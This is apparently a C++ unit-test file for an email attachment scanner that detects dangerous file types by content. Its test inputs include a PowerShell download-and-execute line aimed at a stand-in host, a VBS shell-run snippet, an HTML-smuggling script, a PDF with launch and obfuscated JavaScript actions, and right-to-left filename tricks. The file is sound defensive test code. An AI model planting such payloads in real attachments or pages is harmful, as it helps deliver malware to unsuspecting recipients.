// SPDX-License-Identifier: Apache-2.0
// Dangerous types judged by content (attach/dangerous.cpp). The bytes are built
// here from the format specifications: headers only, no working payloads.
#include "archive_test_util.hpp"

#include <gtest/gtest.h>

using namespace rg_test;
namespace attach = replyguard::attach;

namespace {

attach::attachment_report one(std::string name, std::string data, std::string declared = "application/octet-stream") {
    auto msg = message_with("", {attachment(std::move(name), std::move(data), std::move(declared))});
    auto reps = attach::analyse(msg, {});
    return reps.empty() ? attach::attachment_report{} : reps.front();
}

std::string lnk() {
    std::string d("\x4C\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xC0\x00\x00\x00\x00\x00\x00\x46", 20);
    d.resize(76, '\0');
    return d;
}

std::string iso_image() {
    std::string d(0x8800, '\0');
    d.replace(0x8000, 6,
              "\x01"
              "CD001");
    return d;
}

std::string onenote_with(std::string_view embedded) {
    std::string d("\xE4\x52\x5C\x7B\x8C\xD8\xA7\x4D\xAE\xB1\x53\x78\xD0\x29\x96\xD3", 16);
    d.resize(1024, '\0');
    d += std::string("\xE7\x16\xE3\xBD\x65\x26\x11\x45\xA4\xC4\x8D\x4D\x0B\x7A\x9E\xAC", 16);
    std::uint64_t len = embedded.size();
    for (int i = 0; i < 8; ++i) d.push_back(static_cast<char>((len >> (8 * i)) & 0xFF));
    d.append(12, '\0');
    d += embedded;
    d.append(64, '\0');
    return d;
}

}  // namespace

TEST(Dangerous, ExecutableByContentNotName) {
    auto r = one("report.pdf", tiny_pe(), "application/pdf");
    EXPECT_TRUE(has(r, "ATTACH_EXECUTABLE"));
    EXPECT_TRUE(has(r, "ATTACH_TYPE_MISMATCH"));
    EXPECT_EQ(r.kind, "pe");
    auto elf = one("x", std::string("\x7F"
                                    "ELF\x02\x01\x01",
                                    7) +
                            std::string(120, '\0'));
    EXPECT_TRUE(has(elf, "ATTACH_EXECUTABLE"));
    EXPECT_FALSE(has(elf, "ATTACH_TYPE_MISMATCH"));  // octet-stream, no document name
    // A name alone does not make an executable.
    EXPECT_FALSE(has(one("setup.exe", "just some text\n", "text/plain"), "ATTACH_EXECUTABLE"));
}

TEST(Dangerous, ShortcutDiskImagesChm) {
    EXPECT_TRUE(has(one("photo.jpg", lnk()), "ATTACH_LNK"));
    EXPECT_TRUE(has(one("photo.jpg", lnk()), "ATTACH_TYPE_MISMATCH"));
    EXPECT_TRUE(has(one("a.iso", iso_image()), "ATTACH_DISK_IMAGE"));
    std::string vhdx = "vhdxfile" + std::string(500, '\0');
    EXPECT_TRUE(has(one("disk.bin", vhdx), "ATTACH_DISK_IMAGE"));
    std::string vhd(1024, '\0');
    vhd.replace(vhd.size() - 512, 8, "conectix");
    EXPECT_TRUE(has(one("disk.bin", vhd), "ATTACH_DISK_IMAGE"));
    EXPECT_TRUE(has(one("help.chm", "ITSF" + std::string(100, '\0')), "ATTACH_CHM"));
}

TEST(Dangerous, OneNoteEmbeddedFilesAreAnalysed) {
    auto r = one("notes.one", onenote_with(tiny_pe()));
    EXPECT_TRUE(has(r, "ATTACH_ONENOTE"));
    const auto* emb = find(r, "ATTACH_ONENOTE_EMBEDDED");
    ASSERT_NE(emb, nullptr);
    EXPECT_EQ(emb->evidence["embedded_files"], 1);
    const auto* exe = find(r, "ATTACH_EXECUTABLE");
    ASSERT_NE(exe, nullptr);
    EXPECT_EQ(exe->evidence["path"], "notes.one/embedded-0");
    EXPECT_FALSE(has(one("plain.one", onenote_with("")), "ATTACH_EXECUTABLE"));
}

TEST(Dangerous, ScriptsByNameAndByContent) {
    EXPECT_TRUE(has(one("invoice.js", "var a = 1;\n", "text/plain"), "ATTACH_SCRIPT"));
    EXPECT_TRUE(has(one("run.hta", "<html></html>", "text/html"), "ATTACH_SCRIPT"));
    auto vbs = one("readme.txt",
                   "On Error Resume Next\r\nSet sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"cmd /c calc\", 0\r\n",
                   "text/plain");
    const auto* f = find(vbs, "ATTACH_SCRIPT");
    ASSERT_NE(f, nullptr);
    EXPECT_EQ(f->evidence["by"], "content");
    EXPECT_EQ(f->evidence["language"], "vbs");
    auto ps =
        one("notes.txt", "$c = New-Object Net.WebClient; IEX($c.DownloadString('http://x.invalid/a'))", "text/plain");
    EXPECT_TRUE(has(ps, "ATTACH_SCRIPT"));
    EXPECT_TRUE(has(one("x.txt", "#@~^AAAAAA==encoded", "text/plain"), "ATTACH_SCRIPT"));
    // Ordinary text mentioning one keyword is not a script.
    EXPECT_FALSE(
        has(one("memo.txt", "Please run the report and eval( the results ) tomorrow.", "text/plain"), "ATTACH_SCRIPT"));
}

TEST(Dangerous, HtmlSmuggling) {
    std::string page = R"(<html><body><script>
var b64 = "TVqQAAMAAAAEAAAA";
var bin = atob(b64); var u8 = new Uint8Array(bin.length);
var blob = new Blob([u8], {type: 'application/octet-stream'});
var a = document.createElement('a'); a.href = URL.createObjectURL(blob); a.download = 'invoice.iso'; a.click();
</script></body></html>)";
    auto r = one("invoice.html", page, "text/html");
    EXPECT_TRUE(has(r, "ATTACH_HTML"));
    EXPECT_TRUE(has(r, "ATTACH_HTML_SMUGGLING"));
    auto plain = one("page.html", "<html><body><script>console.log('hi')</script></body></html>", "text/html");
    EXPECT_TRUE(has(plain, "ATTACH_HTML"));
    EXPECT_FALSE(has(plain, "ATTACH_HTML_SMUGGLING"));
}

TEST(Dangerous, DeceptiveNames) {
    EXPECT_TRUE(has(one("invoice.pdf.exe", "x"), "ATTACH_DOUBLE_EXTENSION"));
    EXPECT_TRUE(has(one("scan.jpg          .js", "x"), "ATTACH_DOUBLE_EXTENSION"));
    EXPECT_FALSE(has(one("report.2020.pdf", "x"), "ATTACH_DOUBLE_EXTENSION"));
    EXPECT_FALSE(has(one("archive.tar.gz", "x"), "ATTACH_DOUBLE_EXTENSION"));
    // "invoice\u202Efdp.exe" shows as "invoiceexe.pdf".
    auto rlo =
        one("invoice\xE2\x80\xAE"
            "fdp.exe",
            "x");
    const auto* f = find(rlo, "ATTACH_NAME_BIDI");
    ASSERT_NE(f, nullptr);
    EXPECT_EQ(f->evidence["code_points"][0], "U+202E");
    EXPECT_TRUE(has(one("doc\xE2\x80\x8B.pdf", "x"), "ATTACH_NAME_INVISIBLE"));
    EXPECT_FALSE(has(one("見積書.pdf", "x"), "ATTACH_NAME_INVISIBLE"));
}

TEST(Dangerous, PdfActiveContent) {
    std::string pdf =
        "%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction 2 0 R /Names << /EmbeddedFiles 3 0 R >> >> endobj\n"
        "2 0 obj << /S /J#61vaScript /JS (app.alert(1)) >> endobj\n"
        "4 0 obj << /A << /S /URI /URI (http://example.invalid/) >> >> endobj\n"
        "5 0 obj << /S /Launch /F (cmd.exe) >> endobj\n%%EOF\n";
    auto r = one("doc.pdf", pdf, "application/pdf");
    EXPECT_EQ(r.kind, "pdf");
    EXPECT_TRUE(has(r, "PDF_JAVASCRIPT"));
    EXPECT_TRUE(has(r, "PDF_AUTO_ACTION"));
    EXPECT_TRUE(has(r, "PDF_LAUNCH"));
    EXPECT_TRUE(has(r, "PDF_EMBEDDED_FILE"));
    const auto* uri = find(r, "PDF_URI");
    ASSERT_NE(uri, nullptr);
    EXPECT_EQ(uri->evidence["uri"], 2);               // the /S /URI action and its /URI key
    EXPECT_EQ(r.details["pdf"][0]["javascript"], 2);  // /J#61vaScript decoded, and /JS
    auto clean =
        one("clean.pdf", "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n%%EOF\n", "application/pdf");
    EXPECT_FALSE(has(clean, "PDF_JAVASCRIPT"));
    EXPECT_FALSE(has(clean, "PDF_URI"));
}

TEST(Dangerous, SymbolsAreDeclared) {
    auto syms = attach::symbols();
    for (std::string_view id : {"ATTACH_EXECUTABLE", "ATTACH_LNK", "ARCHIVE_PASSWORD_FROM_BODY", "ARCHIVE_BOMB",
                                "IOC_HASH", "YARA_MATCH", "PDF_JAVASCRIPT"}) {
        auto it = std::ranges::find_if(syms, [&](const auto& s) { return s.id == id; });
        ASSERT_NE(it, syms.end()) << id;
        EXPECT_EQ(it->group, "payload");
        EXPECT_FALSE(it->description_en.empty());
        EXPECT_FALSE(it->description_ja.empty());
    }
    // Every finding a test above produced is declared (spot check through one scan).
    auto r = one("invoice.pdf.exe", tiny_pe(), "application/pdf");
    for (const auto& f : r.findings)
        EXPECT_NE(std::ranges::find_if(syms, [&](const auto& s) { return s.id == f.id; }), syms.end()) << f.id;
}

TEST(Dangerous, ReportsAreValidUtf8WhateverTheNames) {
    // A Shift_JIS name the parser could not decode, inside and outside an archive.
    std::string sjis_name = "\x8C\xA9\x90\xCF\x8F\x91.exe";
    auto r = one(sjis_name, tiny_pe());
    EXPECT_TRUE(has(r, "ATTACH_EXECUTABLE"));
    EXPECT_NO_THROW((void)nlohmann::json(r.details).dump());
    for (const auto& f : r.findings) EXPECT_NO_THROW((void)f.evidence.dump()) << f.id;
    auto pdf = one(sjis_name + ".pdf", "%PDF-1.4\n/JS (x)\n");
    EXPECT_NO_THROW((void)pdf.details.dump());
}
